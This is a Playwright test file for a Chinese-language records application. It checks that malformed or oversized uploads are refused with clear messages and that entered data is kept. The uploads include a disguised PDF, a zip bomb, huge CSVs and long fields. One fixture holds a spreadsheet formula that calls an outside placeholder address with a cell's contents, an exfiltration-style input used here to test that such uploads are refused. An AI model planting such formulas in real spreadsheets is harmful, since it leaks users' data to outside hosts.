import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from './test';
import { ListPage } from './pages/list';
import { NewEntryPage } from './pages/new_entry';
import { TablesPage } from './pages/tables';
import { workbook, zipBomb } from './workbook';

// What does not belong gets a refusal that says what to do, and nobody has to begin again.

test.use({ account: 'gs-office' });

const head = '牵头单位,发生日期,建议\n';
const text = (address: string, words: string) => `<c r="${address}" t="inlineStr"><is><t>${words}</t></is></c>`;
const headRow = `<row r="1">${text('A1', '牵头单位')}${text('B1', '发生日期')}${text('C1', '建议')}</row>`;

const wrong: readonly { what: string; name: string; content: () => string | Buffer; says: RegExp; where: RegExp }[] = [
  { what: 'a PDF named .xlsx', name: '台账.xlsx', content: () => '%PDF-1.7\n%âãÏÓ\n', says: /这不是能导入的表格/, where: /PDF/ },
  { what: 'two million rows', name: '两百万行.csv', content: () => head + 'a,b,c\n'.repeat(2_000_000), says: /超出规定上限/, where: /超过 100000 行/ },
  {
    what: 'a formula that calls out', name: '取数.xlsx', says: /公式会到外面取数/, where: /数据!C2/,
    content: () => workbook(`${headRow}<row r="2">${text('A2', '620102')}${text('B2', '2023-06-01')}<c r="C2" t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f><v>好</v></c></row>`),
  },
  { what: 'a zip bomb', name: '压缩.xlsx', content: zipBomb, says: /超出规定上限/, where: /limit-exceeded/ },
  { what: 'a cell of 1 MB', name: '长字段.csv', content: () => `${head}620102,2023-06-01,${'长'.repeat(350_000)}\n`, says: /超出规定上限/, where: /C2.*超过 32767 个字/ },
];

for (const { what, name, content, says, where } of wrong) {
  test(`${what} is refused as a table, and stays chosen`, async ({ page }) => {
    const list = new ListPage(page);
    await list.open('gs-theme-2023/suggestion');
    const before = await list.count();
    const tables = new TablesPage(page);
    await tables.open('gs-theme-2023', 'suggestion');
    await tables.choose(name, content());
    const refusal = tables.bring.getByRole('alert');
    await expect(refusal).toContainText(says);
    await expect(refusal).toContainText(where);
    await expect(tables.bring.getByText(name)).toBeVisible();
    await expect(tables.bring.getByRole('button', { name: '改好后重新核对' })).toBeEnabled();
    await expect(tables.start).toHaveCount(0);

    // The same page takes a right file at once.
    await tables.choose('建议.csv', `${head}620102,2023-06-30,统一采集口径 ${Date.now()}\n`);
    await expect(tables.bring.getByRole('status')).toContainText('没有错误');
    await list.open('gs-theme-2023/suggestion');
    expect(await list.count()).toBe(before);
  });
}

test('a table past 20 MB is refused before it is sent', async ({ page }) => {
  const tables = new TablesPage(page);
  await tables.open('gs-theme-2023', 'suggestion');
  const sent: string[] = [];
  page.on('request', (request) => sent.push(request.url()));
  await tables.choose('大.csv', Buffer.alloc(21 * 1024 * 1024, 'a'));
  await expect(tables.bring.getByRole('alert')).toContainText('超过 20 MB');
  await expect(tables.bring.getByText('大.csv', { exact: true })).toBeVisible();
  expect(sent.filter((url) => url.includes('dry-run'))).toEqual([]);
});

test('a photograph of 80 MB is refused before it is sent, and the form keeps what was written', async ({ page }) => {
  const folder = mkdtempSync(join(tmpdir(), 'dz-photo-'));
  try {
    const photograph = join(folder, '现场照片.jpg');
    writeFileSync(photograph, Buffer.from([0xff, 0xd8, 0xff, 0xe0]));
    truncateSync(photograph, 80 * 1024 * 1024);
    const entry = new NewEntryPage(page);
    await entry.open('gs-theme-2023', 'finding');
    await entry.field('问题').fill('写到一半的问题');
    const sent: string[] = [];
    page.on('request', (request) => sent.push(request.url()));
    await entry.form.locator('input[type=file]').first().setInputFiles(photograph);
    await expect(page.getByText(/“现场照片\.jpg”超过 20 MB/)).toBeVisible();
    expect(sent.filter((url) => url.includes('/api/v1/files'))).toEqual([]);
    await expect(entry.field('问题')).toHaveValue('写到一半的问题');
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test('a field of 1 MB is refused by its name, and stays as it was written', async ({ page }) => {
  const long = '长'.repeat(350_000);
  const entry = new NewEntryPage(page);
  await entry.open('gs-theme-2023', 'finding');
  await entry.field('问题').fill(long);
  await entry.form.getByRole('radio', { name: '厅属单位调研' }).check();
  await entry.form.getByRole('button', { name: '登记', exact: true }).click();
  await expect(entry.form.getByText(/最多 \d+ 字，现在 350000 字/)).toBeVisible();
  await expect(page).toHaveURL(/\/entries\/new\//);
  expect(await entry.field('问题').inputValue()).toBe(long);
});
